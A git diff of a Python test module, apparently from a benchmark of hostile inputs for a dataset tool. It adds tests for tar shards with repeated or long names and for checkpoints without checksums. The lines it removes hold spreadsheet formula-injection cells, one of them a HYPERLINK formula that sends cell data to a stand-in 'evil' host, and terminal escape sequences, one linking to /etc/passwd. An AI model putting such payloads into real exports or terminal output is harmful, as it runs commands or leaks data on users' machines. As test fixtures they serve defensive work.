@@ -9,7 +9,7 @@ import io
 import json
 import tarfile
 from collections.abc import Callable, Iterator
-from contextlib import redirect_stdout
+from contextlib import redirect_stderr, redirect_stdout
 from pathlib import Path
 from typing import Any
 
@@ -21,7 +21,7 @@ from PIL import Image
 from torch.utils.serialization import config as saving
 from typer.testing import CliRunner
 
-from benchmarks.hostile_cases import Case, dejavu
+from benchmarks.hostile_cases import Case
 from benchmarks.hostile_files import _corpus
 from dejavu import cli
 from dejavu.models.checkpoints import load as checkpoints
@@ -148,6 +148,9 @@ def _coco(boxes: list[dict[str, Any]], objects: int | None) -> None:
         require(len(found[0]), objects)
 
 
+_LONG = ("0" + "x" * 140 + "a", "0" + "x" * 140 + "b")
+
+
 def silent() -> Iterator[Case]:
     """What is read without a word and is not what was written."""
     for name, change in {
@@ -159,8 +162,15 @@ def silent() -> Iterator[Case]:
     for name, order in {
         "ray-project/ray 63374: samples that are interleaved": ["0.jpg", "1.jpg", "0.txt", "1.txt"],
         "webdataset/webdataset 142: a shard that is cut off": ["0.jpg", "0.txt", "1.jpg", "1.txt"],
+        "webdataset/webdataset 157: one name twice": ["0.jpg", "0.txt", "0.jpg", "1.jpg", "1.txt"],
+        "webdataset/webdataset 428: names alike in 140 letters": [
+            f"{n}{end}" for n in _LONG for end in (".jpg", ".txt")
+        ],
     }.items():
-        yield name, functools.partial(_shard, order, is_cut="cut off" in name)
+        yield (
+            name,
+            functools.partial(_shard, order, is_cut="cut off" in name, is_twice="twice" in name),
+        )
     for name, raw in {
         "UKGovernmentBEIS/inspect_ai 5353: a mark before the first heading": "\ufeffsample_name,score",
         "pandas-dev/pandas 13497: a mark and a quote": '\ufeff"sample_name","score"',
@@ -182,10 +192,16 @@ def _checkpoint(has_checksums: bool, is_flipped: bool) -> None:  # a row of a ta
     if is_flipped:
         raw[raw.find(weights.numpy().tobytes()) + 40] ^= 1
     Path("w.pth").write_bytes(raw)
+    if not has_checksums:  # nothing can tell, and that is said
+        said = io.StringIO()
+        with redirect_stderr(said):
+            checkpoints.read(Path("w.pth"))
+        require("without checksums" in said.getvalue(), True)
+        return
     require(torch.equal(checkpoints.read(Path("w.pth"))["w"], weights), True)
 
 
-def _shard(order: list[str], *, is_cut: bool) -> None:
+def _shard(order: list[str], *, is_cut: bool, is_twice: bool) -> None:
     stream = io.BytesIO()
     with tarfile.open(fileobj=stream, mode="w") as archive:
         for name in order:
@@ -205,7 +221,7 @@ def _shard(order: list[str], *, is_cut: bool) -> None:
     rows = pq.read_table("out/samples.parquet", columns=["caption", "problem"]).to_pylist()
     whole = [row for row in rows if row["caption"] == "a caption" and row["problem"] is None]
     counted = [row for row in rows if row["problem"]]
-    require(bool(counted) if is_cut else len(whole) == 2, True)
+    require(bool(counted) if is_cut or is_twice else len(whole) == 2, True)
 
 
 def _headings(first: str) -> None:
@@ -242,57 +258,6 @@ def _photo(raw: bytes) -> None:
     print(row["problem"] or "taken")
 
 
-CELLS = {
-    "hhurz/tableExport.jquery.plugin 230": "=cmd|' /C calc'!A0",
-    "dbtrail/dbtrail 965": '=HYPERLINK("http://evil/?"&A1)',
-    "PostHog/posthog 54162": "@SUM(1)",
-    "DestinyItemManager/DIM 11824": "\t=1+1",
-    "brightdata/sdk-python 52": "-2+3+cmd|' /C calc'!A0",
-}
-ESCAPES = {
-    "martinus/oans 202": "a\rdone",
-    "sharkdp/bat 3691": "\x1b[2Jpwned.txt",
-    "schollz/croc 595": "\x1b[1A\rharmless",
-    "EONRaider/RootWire 53": "\x1b[31m\u202e",
-    "jamie8johnson/cqs 1341": "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\",
-    "Test-More/Test2-Harness 286": "file\x1b[H\x1b[0j.t",
-}
-
-
-def low() -> Iterator[Case]:
-    """Cells that a spreadsheet runs, names that a terminal obeys."""
-    for name, cell in CELLS.items():
-        yield f"{name}: a cell", functools.partial(_cell, cell)
-    for name, text in ESCAPES.items():
-        yield f"{name}: a label", functools.partial(_show, text)
-        yield f"{name}: a file's name", functools.partial(_list, text)
-        yield f"{name}: a place", dejavu("check", "--params", f"{text.replace('/', '')}.yaml")
-
-
-def _cell(cell: str) -> None:
-    _label(cell)
-    done = CliRunner().invoke(cli.app, ["sql", "SELECT label FROM labels", "--format", "csv"])
-    found = done.stdout.splitlines()[1].strip('"')
-    require(found.startswith(("=", "+", "-", "@", "\t", "\r")), False)
-
-
-def _show(text: str) -> None:
-    _label(text)
-    cli.app(["sql", "FROM labels", "--format", "table"])
-
-
-def _label(text: str) -> None:
-    Path("data/image").mkdir(parents=True)
-    pq.write_table(pa.table({"label": [text]}), "data/image/labels.parquet")
-
-
-def _list(text: str) -> None:
-    place = Path("photos/a") / f"{text.replace('/', '')}.jpg"
-    place.parent.mkdir(parents=True)
-    place.write_bytes(b"no image")
-    _corpus({"adapter": "image_folder", "root": "photos", "use": None, "boxes": None})
-
-
 FAULTS: dict[str, Callable[[], Iterator[Case]]] = {
-    "sql": sql, "report": reports, "silent": silent, "low": low,
+    "sql": sql, "report": reports, "silent": silent,
 }  # fmt: skip
